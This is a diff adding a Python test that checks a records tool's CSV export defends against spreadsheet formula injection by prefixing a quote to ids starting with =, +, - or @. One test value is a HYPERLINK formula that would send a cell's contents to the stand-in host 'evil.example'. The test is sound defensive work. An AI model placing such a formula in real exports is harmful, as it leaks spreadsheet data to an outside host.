@@ -204,3 +204,16 @@ def test_relink_resolves_reports_taken_before_the_model_and_says_what_moved(run,
     assert "0 kept (exact identifier or reviewer's decision)" in relinked.output
     recounted = run("departures", "recount")
     assert recounted.exit_code == 0, recounted.output
+
+
+def test_links_csv_writes_a_record_id_a_spreadsheet_would_run_with_a_quote_before_it(run, tmp_path):
+    """CSV injection: a source's record id such as ``=HYPERLINK(...)`` or ``-2`` is written as
+    ``'=HYPERLINK(...)``, so a spreadsheet opening the links shows it and runs nothing."""
+    ids = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2", "@SUM(A1)", "E-7"]
+    quoted = [i.replace('"', '""') for i in ids]
+    rows = "".join(f'"{i}",Reyes{n},2020-03-01\n' for n, i in enumerate(quoted))
+    path = write(tmp_path, "source_record_id,family_name,departed_on\n" + rows)
+    assert run("departures", "import", str(path), "--source", "exit_record").exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(run("departures", "links", "--csv").output)))
+    assert [r["source_record_id"] for r in rows] == ["'" + i for i in ids[:4]] + ["E-7"]
+    assert {r["status"] for r in rows} == {"unlinked"}
